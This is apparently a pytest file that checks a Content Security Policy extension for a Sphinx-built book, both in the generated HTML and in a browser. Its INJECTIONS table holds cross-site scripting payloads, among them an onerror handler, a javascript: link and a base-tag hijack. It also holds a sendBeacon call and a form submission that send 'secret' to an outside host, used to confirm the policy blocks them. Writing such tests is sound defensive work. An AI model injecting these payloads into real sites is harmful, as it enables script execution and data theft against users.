"""The security policy of the pages: its text on small pages, and the built book in a browser."""

from __future__ import annotations

from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_markdown_cell
from sphinx.errors import ExtensionError

import check_site
import content_security
from test_ext import SETTINGS, STATE, Project
from test_site import CHAPTERS, LIVE, SLIDERS, Watch, visit

PAGE = """<!DOCTYPE html>
<html><head>
<meta charset="utf-8" />
<title>T</title><script>let a = 'λ';</script><script src="a.js"></script>
</head><body>{}</body></html>"""


def directives(page: str) -> dict[str, list[str]]:
    """The policy in a page, as a browser reads it."""
    soup = BeautifulSoup(page, "html.parser")
    (meta,) = soup.find_all("meta", attrs={"http-equiv": "Content-Security-Policy"})
    return check_site.directives(meta["content"])


def scripts_of(body: str) -> list[str]:
    return directives(content_security.secure(PAGE.format(body)))["script-src"]


class TestPolicy:
    # The hash was computed with OpenSSL: openssl dgst -sha256 -binary | base64
    FIRST = "'sha256-UXt4aEUQ0uUfls3+sRfePcIlN/GR+cIstMYB5EFbMV8='"

    def test_lets_in_the_site_and_the_page_s_own_inline_scripts(self):
        assert scripts_of("") == ["'self'", self.FIRST]

    def test_an_inline_script_that_repeats_needs_one_hash(self):
        assert scripts_of("<script>let a = 'λ';</script>") == ["'self'", self.FIRST]

    @pytest.mark.parametrize(
        "opening", ["<script>", '<script type="module">', "<SCRIPT type=text/javascript>"]
    )
    def test_what_runs_gets_a_hash(self, opening):
        assert scripts_of(f"{opening}1 < 2</script>")[2:] == [check_site.script_hash("1 < 2")]

    @pytest.mark.parametrize("kind", ["application/json", "application/ld+json", "text/x-template"])
    def test_data_gets_none(self, kind):
        assert scripts_of(f'<script type="{kind}">{{}}</script>') == ["'self'", self.FIRST]

    def test_blob_only_beside_widget_state(self):
        assert scripts_of(f'<script type="{STATE}">{{}}</script>')[2:] == ["blob:"]
        assert "blob:" not in scripts_of(f"<p>a script of type {STATE}</p>")

    def test_nothing_else_may_run(self):
        found = directives(content_security.secure(PAGE.format("")))
        assert found["default-src"] == found["base-uri"] == found["object-src"] == ["'none'"]
        assert not [s for s in found["script-src"] if s.startswith("'unsafe") or ":" in s or "*" in s]
        for name, sources in found.items():
            assert set(sources) <= {"'self'", "'none'", "'unsafe-inline'", "data:", self.FIRST}, name

    def test_stands_before_all_that_it_governs_and_after_the_character_set(self):
        page = content_security.secure(PAGE.format(""))
        places = [page.index(part) for part in ("charset", "Content-Security-Policy", "<title>", "<script")]
        assert places == sorted(places)

    def test_a_page_without_charset_has_it_at_once(self):
        assert content_security.secure("<head><script></script></head>").startswith(
            "<head>\n    <meta http-equiv"
        )

    def test_the_theme_s_handlers_go_and_others_stay_for_the_check_to_find(self):
        page = content_security.secure(
            PAGE.format('<button onclick="window.print()"\n class="b"><p onclick="x()">')
        )
        assert '<button\n class="b">' in page
        assert 'onclick="x()"' in page

    def test_a_page_without_head_is_refused(self):
        with pytest.raises(ValueError, match="no place"):
            content_security.secure("<p>words</p>")


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path)


class TestExtension:
    EXTENSIONS = (*SETTINGS["extensions"], "sphinx_book_theme", "light_pages", "content_security")

    def build(self, project, **options):
        (project.source / "_static").mkdir(exist_ok=True)
        for name in ("site.js", "first-paint.js", "mathjax.js", "loader.js"):
            (project.source / "_static" / name).write_text("1;")
        cells = [new_markdown_cell("# T")]
        options = {"html_theme": "sphinx_book_theme", "html_static_path": ["_static"], **options}
        page, _ = project.build(cells, extensions=list(self.EXTENSIONS), **options)
        return page

    def test_every_page_has_one_that_the_check_accepts(self, project):
        self.build(project)
        pages = check_site.pages_of(project.built / "html")
        assert {"index.html", "search.html", "genindex.html"} <= {path.name for path in pages}
        said = [line for line in check_site.check(project.built / "html").problems if "loads" not in line]
        assert said == []

    def test_a_second_build_does_not_repeat_it(self, project):
        self.build(project)
        self.build(project)
        assert directives((project.built / "html" / "genindex.html").read_text("utf-8"))

    def test_no_inline_script_differs_from_page_to_page(self, project):
        page = self.build(project)
        assert "DOCUMENTATION_OPTIONS.pagename" not in str(page)

    def test_a_page_without_head_ends_the_build_with_its_name(self, project):
        extra = project.source / "extra"
        extra.mkdir()
        (extra / "bare.html").write_text("<p>words</p>")
        with pytest.raises(ExtensionError, match=r"bare\.html: .*no place"):
            self.build(project, html_extra_path=["extra"])


# ---- the book in a browser ---------------------------------------------------------------------------------

LISTEN = """addEventListener('securitypolicyviolation',
  e => (window.violations ??= []).push(e.effectiveDirective + ' ' + e.blockedURI))"""
VIOLATIONS = "() => window.violations ?? []"
CHAPTER = CHAPTERS[1]


@pytest.fixture
def watched(browser, site_url):
    """Open a page whose violations are counted, in a browser that may use the clipboard."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.watch = Watch(page, site_url)
    yield page
    context.close()


def test_everything_on_a_chapter_works_under_the_policy(watched, site_url):
    page = watched
    visit(page, f"{site_url}/{CHAPTER}.html")
    assert page.locator("mjx-container svg, mjx-container mjx-math").count() > 10

    slider = page.locator(SLIDERS).first
    slider.focus()
    page.keyboard.press("Home")
    before = page.locator(LIVE).first.inner_html()
    page.keyboard.press("ArrowRight")
    page.wait_for_function("([s, b]) => document.querySelector(s).innerHTML !== b", arg=[LIVE, before])

    theme = page.evaluate("() => document.documentElement.dataset.mode")
    page.locator("button.theme-switch-button:visible").first.click()
    assert page.evaluate("() => document.documentElement.dataset.mode") != theme

    cell = page.locator("div.highlight:has(button.copybtn)").first
    cell.hover()
    cell.locator("button.copybtn").click()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied.split()[:3] == cell.locator("pre").inner_text().split()[:3]

    page.evaluate("() => { window.print = () => { window.printed = true } }")
    page.locator(".btn-download-pdf-button").first.evaluate("e => e.click()")
    assert page.evaluate("() => window.printed")
    page.locator(".btn-fullscreen-button").first.click()
    page.wait_for_function("() => document.fullscreenElement !== null")

    assert page.evaluate(VIOLATIONS) == []
    assert page.watch.problems == []


def test_the_search_shows_summaries_under_the_policy(watched, site_url):
    page = watched
    visit(page, f"{site_url}/{CHAPTER}.html")
    page.keyboard.press("Control+k")
    page.locator("#pst-search-dialog input[name=q]").fill("ridge")
    page.keyboard.press("Enter")  # submits the form, which the policy must let go to the search page
    page.wait_for_url("**/search.html?q=ridge")
    page.wait_for_selector("ul.search li p.context", timeout=15_000)
    assert page.evaluate(VIOLATIONS) == []
    assert page.watch.problems == []


INJECTIONS = {
    "inline script": "document.head.append(Object.assign(document.createElement('script'),"
    " {text: 'got = 1'}))",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"got = 1\">')",
    "script of another host": "document.head.append(Object.assign(document.createElement('script'),"
    " {src: 'https://example.org/a.js'}))",
    "address": "document.body.append(Object.assign(document.createElement('a'), {href: 'javascript:got = 1',"
    " id: 'bad'})); document.getElementById('bad').click()",
    "script in data:": "document.head.append(Object.assign(document.createElement('script'),"
    " {src: 'data:text/javascript,got = 1'}))",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://example.org/\"></iframe>')",
    "base": "document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://example.org/\">')",
    "beacon": "navigator.sendBeacon('https://example.org/', 'secret')",
    "form": "document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"https://example.org/\">"
    "</form>'); document.getElementById('f').submit()",
}


@pytest.fixture(scope="module", params=["http", "file"])
def attacked(browser, site, site_url, request):
    """Open a chapter once over HTTP and once as a file."""
    context = browser.new_context()
    context.add_init_script(LISTEN)
    page = context.new_page()
    base = site_url if request.param == "http" else site.as_uri()
    visit(page, f"{base}/{CHAPTER}.html")
    yield page
    context.close()


@pytest.mark.parametrize("name", INJECTIONS)
def test_what_is_injected_does_not_run(attacked, name):
    page = attacked
    page.evaluate("() => { window.violations = [] }")
    page.evaluate(f"() => {{ {INJECTIONS[name]} }}")
    page.wait_for_function("() => window.violations.length", timeout=5_000)
    assert page.evaluate("() => window.got") is None


def test_text_is_not_evaluated(attacked):
    """From a timer: what the debugger itself evaluates is above the policy."""
    said = attacked.evaluate(
        "() => new Promise(ok => setTimeout("
        "() => { try { ok(String(eval('1 + 1'))) } catch (e) { ok(e.name) } }))"
    )
    assert said == "EvalError"


def test_the_pages_of_the_book_share_few_inline_scripts(site: Path):
    """So few that a host can send one policy for all pages in a header."""
    allowed = set()
    for path in check_site.pages_of(site):
        head = path.read_text("utf-8").partition("</head>")[0]
        allowed |= {source for source in directives(head)["script-src"] if source.startswith("'sha")}
    assert len(allowed) <= 8
